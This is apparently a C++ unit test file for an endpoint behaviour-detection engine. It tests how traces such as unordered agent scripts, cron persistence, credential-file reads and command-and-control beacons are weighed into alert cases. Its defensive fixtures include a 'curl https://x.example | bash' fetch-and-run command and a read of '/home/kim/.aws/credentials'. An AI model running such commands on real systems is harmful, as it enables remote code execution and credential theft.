// How marks become cases that count, what belongs to which chain, and that every rule has its page and its table.
#include "clew/inquiry/behaviour.h"

#include "clew/base/text.h"
#include "clew/inquiry/detail/acts.h"

#include <filesystem>
#include <fstream>
#include <iterator>

#include <gtest/gtest.h>

namespace clew::inquiry::acts {
namespace {

// ---- weighing

const Trace left_script = wrote("desk-1", "04T09:59:58", "/tmp/order-17", {agent, "1"});
const Trace runs_script = agent_shell("desk-1", "04T10:00:00", "sh /tmp/order-17");
const Trace persists = wrote("desk-1", "04T10:01:00", "/etc/cron.d/tool");
const Trace opens_store = opened("desk-1", "04T10:02:00", "/home/kim/.aws/credentials");
const Trace fetches =
    child("desk-1", "04T10:00:10", {.path = "/bin/bash", .command = "curl https://x.example | bash", .pid = "60"});
const Trace cleans = removed("desk-1", "04T10:03:00", "/etc/cron.d/tool");
const Trace usual = habit("01T08:00:00", "04T09:00:00", 40);

struct Weighing {
  std::string_view name;
  Acts acts;
  bool counts;
};

TEST(Weighing, NeedsTwoKindsAndMoreWhereAnOrderExplainsIt) {
  const Trace by_usual = ordered("desk-1", "04T09:59:30", "o1");
  const Trace by_stranger = ordered("desk-1", "04T09:59:30", "o1", stranger);
  const Acts stranger_alone{usual, by_stranger};
  const std::vector<Weighing> rows = {
      {"one_rule_alone", {left_script, runs_script}, false},
      {"one_rule_alone_though_an_indicator_lowers_what_is_needed_to_it_and_counts_as_the_second",
       Acts{left_script, runs_script}.indicator_on("desk-1", "04T10:05:00"), true},
      {"nobody_ordered_it_and_it_stays", {runs_script, persists}, true},
      {"nobody_ordered_it_and_it_sends",
       Acts{runs_script, connected("desk-1", "04T10:10:00", "x.example", "9000000", "1")}.known_to("x.example", 1),
       false},
      {"ordered_as_always_and_it_stays", {usual, by_usual, runs_script, persists}, false},
      {"an_installation_that_was_ordered_as_always", {usual, by_usual, runs_script, persists, fetches}, false},
      {"ordered_as_always_but_it_also_opens_secrets",
       {usual, by_usual, runs_script, persists, fetches, opens_store},
       true},
      {"ordered_as_always_with_an_indicator_on_the_device",
       Acts{usual, by_usual, runs_script, persists, opens_store}.indicator_on("desk-1", "04T10:05:00"), true},
      {"ordered_by_a_stranger_alone", stranger_alone, false},
      {"ordered_by_a_stranger_who_had_signed_in", {usual, signed_in("04T09:50:00", stranger), by_stranger}, true},
      {"ordered_by_a_stranger_and_it_stays", {usual, by_stranger, runs_script, persists}, true},
      {"ordered_from_a_hotel_alone",
       {usual, ordered("desk-1", "04T09:59:30", "o1", {.address = "198.51.100.7"})},
       false},
      {"a_program_that_has_nothing_to_do_with_the_supplier_and_stays",
       {launch("desk-1", "04T10:00:00", {.path = "/srv/x", .pid = "50", .signature = "unsigned"}),
        wrote("desk-1", "04T10:01:00", "/etc/cron.d/tool", {"/srv/x", "50"})},
       false},
      {"the_same_opens_secrets",
       {launch("desk-1", "04T10:00:00", {.path = "/srv/x", .pid = "50", .signature = "unsigned"}),
        wrote("desk-1", "04T10:01:00", "/etc/cron.d/tool", {"/srv/x", "50"}),
        opened("desk-1", "04T10:02:00", "/home/kim/.aws/credentials", {"/srv/x", "50"})},
       false},
      {"the_same_with_an_indicator",
       Acts{launch("desk-1", "04T10:00:00", {.path = "/srv/x", .pid = "50", .signature = "unsigned"}),
            wrote("desk-1", "04T10:01:00", "/etc/cron.d/tool", {"/srv/x", "50"}),
            opened("desk-1", "04T10:02:00", "/home/kim/.aws/credentials", {"/srv/x", "50"})}
           .indicator_on("desk-1", "04T10:05:00"),
       true},
      {"an_indicator_on_another_device_changes_nothing",
       Acts{left_script, runs_script}.indicator_on("desk-2", "04T10:05:00"), false},
      {"the_agents_update_of_itself_through_a_shell",
       {launch("desk-1", "04T10:00:00",
               {.path = "/bin/sh", .command = "/bin/sh /opt/harbour/update.sh", .pid = "50", .parent = agent}),
        wrote("desk-1", "04T10:00:05", "/opt/harbour/bin/harbour-agent"),
        wrote("desk-1", "04T10:00:06", "/etc/systemd/system/harbour-agent.service"),
        child("desk-1", "04T10:00:07",
              {.path = "/usr/bin/systemctl", .command = "systemctl enable harbour-agent", .pid = "61"})},
       false},
      {"without_a_log_of_orders_nothing_speaks_for_an_order", Acts{runs_script, persists, opens_store}.orders_from(""),
       true},
      {"an_installation_of_which_nobody_knows_who_ordered_it",
       Acts{runs_script, persists, fetches, cleans}.orders_from(""), false},
  };
  for (const Weighing& row : rows) {
    const Judged judged(row.acts);
    EXPECT_EQ(judged.counts(), row.counts) << row.name << "\n" << judged.why();
  }
}

TEST(Weighing, SaysWhatWasNeeded) {
  const Judged judged({runs_script, persists});
  ASSERT_EQ(judged.judgement.cases.size(), 1U);
  EXPECT_EQ(judged.judgement.cases[0].why, "5 of 5 needed: agent-child-without-order (3), new-persistence (2)");
}

TEST(Weighing, IsTheSameWhateverTheOrderOfTheRecords) {
  Acts acts{left_script, runs_script, persists, fetches, opens_store, cleans};
  const std::string why = Judged(acts).why();
  std::ranges::reverse(acts.traces);
  EXPECT_EQ(Judged(acts).why(), why);
}

TEST(Weighing, WhatIsExplainedWeighsNothing) {
  const Who from_office = {.address = "198.51.100.7"};
  const Judged judged({usual, habit("02T08:00:00", "04T09:00:00", 9, {.account = "bo", .address = "198.51.100.7"}),
                       habit("02T08:00:00", "04T09:00:00", 9, {.account = "cy", .address = "198.51.100.7"}),
                       ordered("desk-1", "04T09:59:30", "o1", from_office), runs_script, persists});
  ASSERT_EQ(judged.judgement.cases.size(), 1U);
  EXPECT_EQ(judged.judgement.cases[0].weight, 2) << judged.why();
  EXPECT_FALSE(judged.counts());
}

TEST(Weighing, ADeletionThatIsExplainedIsShownAndWeighsNothing) {
  const Judged judged({usual, ordered("desk-2", "04T10:00:00", "o1"),
                       answered("desk-2", "04T10:00:00", "04T10:00:09", "o1", "uptime"),
                       ordered("desk-1", "04T10:00:00", "o1"), erased("04T12:00:00", "o1")});
  ASSERT_FALSE(judged.judgement.cases.empty());
  for (const Case& of : judged.judgement.cases) {
    EXPECT_EQ(of.weight, 0) << judged.why();
    ASSERT_EQ(of.marks.size(), 1U);
    EXPECT_EQ(of.marks[0].weight, 1);
  }
}

TEST(Weighing, NoRuleReachesWhatIsNeededAlone) {
  const Judged judged({usual, ordered("desk-1", "04T09:59:30", "o1", stranger), opens_store, persists, left_script,
                       runs_script, fetches, cleans});
  std::map<std::string_view, int> by_rule;
  for (const Case& of : judged.judgement.cases) {
    for (const Mark& mark : of.marks) by_rule[mark.rule] += mark.weight;
  }
  EXPECT_GE(by_rule.size(), 5U) << judged.why();
  for (const auto& [rule, weight] : by_rule) EXPECT_LT(weight, enough_without_order) << rule;
}

// ---- what belongs to which chain

TEST(Contacts, BelongToOneChainOnly) {
  const Judged judged(Acts{agent_shell("desk-1", "04T08:00:00", "sh /tmp/a"),
                           launch("desk-1", "04T10:00:00", {.path = "/bin/sh", .pid = "70", .parent = agent})}
                          .and_then(beacons("desk-1", "04T10:05:00", "c2.example", 10, 60))
                          .known_to("c2.example", 1));
  ASSERT_EQ(judged.judgement.cases.size(), 2U);
  EXPECT_TRUE(judged.judgement.cases[0].contacts.empty());
  EXPECT_EQ(judged.judgement.cases[1].contacts.size(), 1U) << "the latest chain that had begun";
}

TEST(Contacts, GoToWhatNobodyOrderedBeforeWhatWasOrdered) {
  const Judged judged(Acts{usual, agent_shell("desk-1", "04T09:56:00", "sh /tmp/a"),
                           ordered("desk-1", "04T09:59:50", "o1"),
                           launch("desk-1", "04T10:00:00", {.path = "/bin/sh", .pid = "70", .parent = agent}),
                           wrote("desk-1", "04T10:01:00", "/etc/cron.d/tool", {"/bin/sh", "70"})}
                          .and_then(beacons("desk-1", "04T10:00:30", "c2.example", 10, 60))
                          .known_to("c2.example", 1));
  ASSERT_EQ(judged.judgement.cases.size(), 2U);
  EXPECT_EQ(judged.judgement.cases[0].contacts.size(), 1U);
  EXPECT_TRUE(judged.judgement.cases[1].contacts.empty());
}

TEST(Contacts, FromBeforeAnyChainBelongToNone) {
  const Judged judged(Acts{agent_shell("desk-1", "04T10:00:00", "sh /tmp/a")}
                          .and_then(beacons("desk-1", "04T09:00:00", "c2.example", 10, 60))
                          .known_to("c2.example", 1));
  ASSERT_EQ(judged.judgement.cases.size(), 1U);
  EXPECT_TRUE(judged.judgement.cases[0].contacts.empty());
}

TEST(Contacts, AnAddressIsCalledByTheNameThatItWasLookedUpBy) {
  std::vector<Trace> traces = {trace("desk-1", "04T10:00:00", EventClass::dns_activity, model::activity::dns_response,
                                     {{Attribute::query_hostname, "Tool.Example"}, {Attribute::answer, "203.0.113.9"}}),
                               trace("desk-1", "04T10:00:01", EventClass::network_activity,
                                     model::activity::network_traffic, {{Attribute::dst_ip, "203.0.113.9"}}),
                               trace("desk-1", "04T10:00:02", EventClass::network_activity,
                                     model::activity::network_traffic, {{Attribute::dst_ip, "203.0.113.10"}}),
                               trace("desk-1", "04T10:00:03", EventClass::network_activity,
                                     model::activity::network_traffic, {{Attribute::dst_ip, "10.0.0.9"}})};
  const std::vector<Contact> contacts = contacts_of(traces);
  std::vector<std::string> names;
  for (const Contact& contact : contacts) names.push_back(contact.name);
  std::ranges::sort(names);
  EXPECT_EQ(names, (std::vector<std::string>{"203.0.113.10", "tool.example"}));
}

TEST(Rare, IsWhatFewKnowAndNobodyKnewBefore) {
  Records records;
  records.devices_seen = 1000;
  Contact contact;
  const base::Instant since = moment("04T10:00:00");
  EXPECT_FALSE(is_rare(contact, records, since)) << "nobody asked";
  contact.devices = 10;
  EXPECT_TRUE(is_rare(contact, records, since));
  contact.devices = 11;
  EXPECT_FALSE(is_rare(contact, records, since)) << "more than one in a hundred";
  records.devices_seen = 20;
  contact.devices = 3;
  EXPECT_TRUE(is_rare(contact, records, since));
  contact.devices = 4;
  EXPECT_FALSE(is_rare(contact, records, since)) << "more than three of a few";
  contact.devices = 1;
  contact.first_anywhere = moment("04T09:59:59");
  EXPECT_FALSE(is_rare(contact, records, since));
  contact.first_anywhere = since;
  EXPECT_TRUE(is_rare(contact, records, since));
}

TEST(Traits, BelongToTheChainThatHoldsTheirRecord) {
  Acts acts{agent_shell("desk-1", "04T08:00:00", "sh /tmp/a"), wrote("desk-1", "04T12:00:00", "/srv/tool"),
            launch("desk-1", "04T10:00:00", {.path = "/bin/sh", .pid = "70", .parent = agent})};
  Trace there = acts.traces[1];
  there.place = {0, 2, 200, 10};  // as `Judged` numbers it
  acts.also("file", "/srv/tool", "desk-9", there);
  const Judged judged(acts);
  ASSERT_EQ(judged.judgement.cases.size(), 2U);
  EXPECT_EQ(judged.judgement.cases[0].shared.size(), 1U) << "though another one began later";
  EXPECT_TRUE(judged.judgement.cases[1].shared.empty());
}

TEST(Traits, WithoutAnythingGoingOnThereAreACaseOfTheirOwn) {
  const Judged judged(Acts({}).also("file", "/srv/tool", "desk-9", wrote("desk-1", "04T12:00:00", "/srv/tool")));
  ASSERT_EQ(judged.judgement.cases.size(), 1U);
  EXPECT_EQ(judged.judgement.cases[0].chain.device, "desk-1");
  EXPECT_EQ(judged.judgement.cases[0].why_ordered, "what began it was not seen");
}

TEST(Cases, AnOrderFromAStrangePlaceWhoseEffectNobodyRecordedIsOne) {
  const Judged judged(
      {usual, prepared("04T09:50:00", "o1", stranger), ordered("desk-1", "04T10:00:00", "o1", stranger)});
  ASSERT_EQ(judged.judgement.cases.size(), 1U);
  const Case& of = judged.judgement.cases[0];
  EXPECT_EQ(of.chain.root, Chain::Root::order);
  EXPECT_EQ(of.chain.from, moment("04T09:50:00")) << "when it was first worked on";
}

TEST(Cases, AnOrderAsAlwaysIsNone) {
  EXPECT_TRUE(Judged({usual, ordered("desk-1", "04T10:00:00", "o1")}).judgement.cases.empty());
}

// ---- pages and tables

std::string text_of(const std::filesystem::path& path) {
  std::ifstream file(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(file), {}};
}

struct Named {
  std::string name, tactic, technique;
};

/// The rules of the table, and the one that looks at all cases together.
std::vector<Named> all_rules() {
  std::vector<Named> rules = {{"cloud-key-from-new-place", "lateral-movement", "T1078.004"},
                              {"session-used-elsewhere", "lateral-movement", "T1550.004"}};
  for (const BehaviourRule& rule : behaviour_rules())
    rules.push_back({std::string(rule.name), std::string(rule.tactic), std::string(rule.technique)});
  return rules;
}

const std::filesystem::path source = CLEW_SOURCE_DIR;

TEST(EveryRule, HasAPageWithItsTechniqueAndItsTactic) {
  const std::string overview = text_of(source / "docs/behaviours/README.md");
  for (const Named& rule : all_rules()) {
    const std::string page = text_of(source / "docs/behaviours" / (rule.name + ".md"));
    EXPECT_TRUE(page.starts_with("# " + rule.name + "\n")) << rule.name;
    EXPECT_NE(page.find(rule.technique), std::string::npos) << rule.name << ": " << rule.technique;
    EXPECT_NE(page.find(rule.tactic), std::string::npos) << rule.name << ": " << rule.tactic;
    for (const std::string_view section :
         {"## Sees", "## Needs", "## Weighs", "## Fooled by", "## Explained by", "## Example"})
      EXPECT_NE(page.find(fmt::format("\n{}\n", section)), std::string::npos) << rule.name << " lacks " << section;
    EXPECT_NE(overview.find(fmt::format("[{0}]({0}.md)", rule.name)), std::string::npos) << rule.name;
  }
}

TEST(EveryRule, HasATableOfWhatFiresItAndWhatMustNot) {
  std::string tests;
  for (const auto& entry : std::filesystem::directory_iterator(source / "clew/inquiry/behaviours")) {
    if (entry.path().string().ends_with("_test.cpp")) tests += text_of(entry.path());
  }
  std::erase_if(tests, base::is_space);  // however the layout breaks the line
  for (const Named& rule : all_rules()) {
    const bool checked = tests.find(fmt::format("check(\"{}\"", rule.name)) != std::string::npos;
    EXPECT_TRUE(checked) << rule.name << " has no table: check(\"" << rule.name << "\", …)";
  }
}

TEST(EveryRule, EveryPageIsOfARule) {
  const std::vector<Named> rules = all_rules();
  for (const auto& entry : std::filesystem::directory_iterator(source / "docs/behaviours")) {
    const std::string name = entry.path().stem().string();
    EXPECT_TRUE(name == "README" || std::ranges::any_of(rules, [&](const Named& rule) { return rule.name == name; }))
        << entry.path().filename();
  }
}

TEST(EveryRule, TheOverviewStatesTheThresholdsOfTheCode) {
  const std::string overview = text_of(source / "docs/behaviours/README.md");
  for (const auto& [name, value] :
       {std::pair("enough_without_order", enough_without_order), std::pair("enough_when_ordered", enough_when_ordered),
        std::pair("enough_for_program", enough_for_program), std::pair("worth_of_indicator", worth_of_indicator)})
    EXPECT_NE(overview.find(fmt::format("| `{}` | {} |", name, value)), std::string::npos) << name;
}

}  // namespace
}  // namespace clew::inquiry::acts
